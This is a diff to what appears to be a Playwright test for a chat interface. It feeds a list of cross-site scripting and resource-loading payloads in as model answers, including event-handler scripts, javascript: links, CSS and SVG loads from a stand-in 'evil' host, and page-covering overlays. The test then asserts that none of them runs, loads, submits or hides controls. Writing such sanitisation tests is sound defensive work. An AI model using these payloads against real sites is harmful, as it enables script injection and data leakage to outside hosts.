@@ -56,7 +56,8 @@ POISONED = [
     "<meta http-equiv=refresh content='0;url={evil}/25'>",
     "<base href={evil}/>",
     "<style>@import url({evil}/26.css); body {{ background: url({evil}/27.png) }}</style>",
-    "<style>input[value^=a] {{ background: url({evil}/28.png) }} @font-face {{ font-family: f; src: url({evil}/f) }}</style>",
+    "<style>input[value^=a] {{ background: url({evil}/28.png) }}</style>",
+    "<style>@font-face {{ font-family: f; src: url({evil}/f) }} * {{ font-family: f }}</style>",
     "<div style='background: url({evil}/29.png)'>a</div>",
     "<div style='list-style-image: url({evil}/30.png); display: list-item; content: url({evil}/31.png)'>a</div>",
     "<div style=\"background-image: image-set('{evil}/32.png' 1x); cursor: url({evil}/33.cur), auto\">a</div>",
@@ -66,9 +67,10 @@ POISONED = [
     "<svg onload=\"document.title='ran'\"><script>document.title='ran'</script></svg>",
     "<svg><animate onbegin=\"document.title='ran'\" attributeName=x dur=1s></animate></svg>",
     "<svg><foreignObject><img src={evil}/38.png><iframe src={evil}/39></iframe></foreignObject></svg>",
-    "<svg><style>@import '{evil}/40.css';</style><rect fill='url({evil}/41.svg#a)' filter='url({evil}/42.svg#a)'/></svg>",
+    "<svg><style>@import '{evil}/40.css';</style></svg>",
+    "<svg><rect fill='url({evil}/41.svg#a)' filter='url({evil}/42.svg#a)'/></svg>",
     "<svg><a xlink:href=\"javascript:document.title='ran'\"><text y=20>click</text></a></svg>",
-    "<math><mtext><table><mglyph><style><img src={evil}/43 onerror=document.title='ran'></style></mglyph></table></math>",
+    "<math><mtext><table><mglyph><style><img src={evil}/43 onerror=document.title=1></style></mglyph></table></math>",
     "<math href=\"javascript:document.title='ran'\"><mtext>click</mtext></math>",
     "<math><annotation-xml encoding='text/html'><img src={evil}/44></annotation-xml></math>",
     "$$\\includegraphics{{{evil}/45.png}} \\href{{javascript:document.title='ran'}}{{click}}$$",
@@ -87,7 +89,7 @@ POISONED = [
     "<input type=image src={evil}/54.png></form>",
     "<details open ontoggle=\"document.title='ran'\"><summary>a</summary></details>",
     "<input autofocus onfocus=\"document.title='ran'\"><marquee onstart=\"document.title='ran'\">a</marquee>",
-    "<body onload=\"document.title='ran'\"><div onmouseover=\"document.title='ran'\" style='position: fixed; inset: 0'>",
+    "<body onload=\"document.title='ran'\"><div onmouseover=\"document.title='ran'\" style='position: fixed'>",
     "<div style='position: fixed; inset: 0; z-index: 9999; background: red' id=over>over the page</div>",
     "<template><img src={evil}/55></template><x-y onclick=\"document.title='ran'\">click</x-y>",
     "<portal src={evil}/56></portal><fencedframe src={evil}/57></fencedframe>",
@@ -96,7 +98,7 @@ TITLE = "Chat with models/demo"
 
 
 class Poison:
-    """Answers with what it is asked."""
+    """Answers with what it is asked, at once."""
 
     description, context, notices, switchable = "poison", 6000, [], False  # type: ignore[var-annotated]
 
@@ -157,14 +159,16 @@ def page(address: str) -> Iterator[Page]:
 # Puts a key into each field that an answer has drawn, sends each form, and clicks what calls itself clickable.
 TRY = """() => {
   for (const field of document.querySelectorAll('.bot.message input')) field.value = 'the-secret-key'
-  for (const form of document.querySelectorAll('.bot.message form')) form.requestSubmit ? form.requestSubmit() : form.submit()
+  for (const form of document.querySelectorAll('.bot.message form')) form.requestSubmit()
   for (const e of document.querySelectorAll('.bot.message button:not([aria-label])')) e.click()
   for (const e of document.querySelectorAll('.bot.message *'))
     if (e.textContent.trim() == 'click') e.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))
-  for (const e of document.querySelectorAll('.bot.message *')) e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}))
+  for (const e of document.querySelectorAll('.bot.message *'))
+    e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}))
 }"""
 # What is on top of the controls of the page, which nothing in an answer may cover.
-COVERED = """() => [...document.querySelectorAll('textarea, button')].filter(e => e.checkVisibility() && !e.closest('[role=log]'))
+COVERED = """() => [...document.querySelectorAll('textarea, button')]
+  .filter(e => e.checkVisibility() && !e.closest('[role=log]'))
   .filter(e => { const {left, top, width, height} = e.getBoundingClientRect()
     const above = document.elementFromPoint(left + width / 2, top + height / 2)
     return above && above.closest('[role=log]') }).map(e => e.outerHTML.slice(0, 99))"""
@@ -188,18 +192,19 @@ def test_no_answer_loads_posts_runs_or_covers_anything(
     opened: list[str] = []
     page.context.on("page", lambda new: opened.append(new.url))
     title, url = page.title(), page.url
-    done = page.get_by_role("button", name="Stop", exact=True)
+    send = page.get_by_role("button", name="Send", exact=True)
     for number in range(0, len(POISONED), 11):  # several in a conversation, all of them in the page at once
         page.get_by_role("button", name="Clear", exact=True).click()
         expect(page.locator(".bot.message")).to_have_count(0)
         for count, poison in enumerate(POISONED[number : number + 11], 1):
             text = poison.format(evil=there)
             page.get_by_label("Your message").fill(text)
-            page.get_by_label("Your message").press("Enter")
+            with page.expect_response("**/run/predict"):  # when the answer has ended
+                page.get_by_label("Your message").press("Enter")
             expect(page.locator(".bot.message")).to_have_count(count)
-            expect(done).to_be_disabled()
+            expect(send).to_be_enabled()
             if not markdown:
-                assert page.locator(".bot.message").last.inner_text() == text
+                expect(page.locator(".bot.message").last).to_have_text(text)
         page.evaluate(TRY)
         page.wait_for_timeout(200)
         assert (page.title(), page.url) == (title, url)
